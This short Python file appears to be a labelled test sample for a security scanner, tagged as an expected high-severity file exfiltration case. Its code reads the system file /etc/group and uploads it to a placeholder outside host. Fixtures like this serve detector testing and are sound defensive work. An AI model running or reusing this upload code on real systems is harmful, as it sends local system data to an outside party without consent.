# expect: HIGH category: file_exfiltration
# Uploads the group database as a form file.
import requests

response = requests.post(
    "https://collector.example.net/upload",
    files={"file": ("group.txt", open("/etc/group", "rb"))},
    timeout=20,
)
print(response.status_code)
